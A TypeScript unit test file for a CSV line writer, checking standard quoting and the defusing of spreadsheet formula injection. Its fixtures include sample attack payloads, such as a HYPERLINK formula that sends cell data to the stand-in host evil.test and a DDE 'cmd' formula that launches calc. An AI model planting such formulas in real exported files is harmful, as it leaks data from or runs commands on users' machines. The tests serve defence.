import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine, plainCell } from './csv-line.ts';

declare const process: { env: Readonly<Record<string, string | undefined>> };

/** Reads CSV back as RFC 4180 has it; no shortcut of the writer is shared. */
function readLine(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  const text = line.slice(0, -2);
  for (let i = 0; i < text.length; i += 1) {
    const letter = text[i] ?? '';
    if (quoted && letter === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (letter === '"') {
      quoted = !quoted;
    } else if (letter === ',' && !quoted) {
      cells.push(cell);
      cell = '';
    } else {
      cell += letter;
    }
  }
  return [...cells, cell];
}

describe('a line of CSV', () => {
  it('ends as the standard says, with an empty cell for what there is not', () => {
    expect(csvLine(['a', undefined, 3, true])).toBe('a,,3,true\r\n');
  });

  it('quotes commas, quotes and line breaks', () => {
    expect(csvLine(['a,b', 'say "hi"', 'two\nlines'])).toBe('"a,b","say ""hi""","two\nlines"\r\n');
  });

  it.each([
    '=1+1',
    '+cmd',
    '-cmd|x',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠x',
    '=',
    "'=x",
    "''@x",
  ])('disarms %j', (text) => {
    expect(readLine(csvLine([text]))).toEqual([`'${text}`]);
    expect(plainCell(`'${text}`)).toBe(text);
  });

  it('is, for what people have tried, exactly this', () => {
    expect(
      csvLine([
        '=HYPERLINK("https://evil.test?"&A1,"Click")',
        "=cmd|' /C calc'!A0",
        '@SUM(1+1)*cmd',
        '+1+cmd',
        '-2+3+cmd',
        '\t=1+1',
        '\r=1+1',
        'a;=1+1',
        ' =1+1',
        '+4915112345',
        -12,
        "'tis",
      ]),
    ).toBe(
      `"'=HYPERLINK(""https://evil.test?""&A1,""Click"")",'=cmd|' /C calc'!A0,'@SUM(1+1)*cmd,'+1+cmd,'-2+3+cmd,` +
        `"'\t=1+1","'\r=1+1","a;=1+1"," =1+1",+4915112345,-12,'tis\r\n`,
    );
  });

  it('leaves numbers below nought as they are', () => {
    expect(csvLine([-12, '-3.5'])).toBe('-12,-3.5\r\n');
  });

  it('is read back as it was written, and no cell begins a formula', () => {
    const texts = fc.array(
      fc.string({
        unit: fc.constantFrom(...'=+-@,"\r\n\ta1 é\'＝＠;'.split('')),
      }),
      { minLength: 1 },
    );
    fc.assert(
      fc.property(texts, (cells) => {
        const read = readLine(csvLine(cells));
        expect(read.map(plainCell)).toEqual(cells);
        for (const cell of read) {
          expect(/^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell)).toBe(false);
        }
      }),
      { seed: 1, numRuns: 200 * Number(process.env['CAMPAIGN_SCALE'] ?? '1') },
    );
  });
});
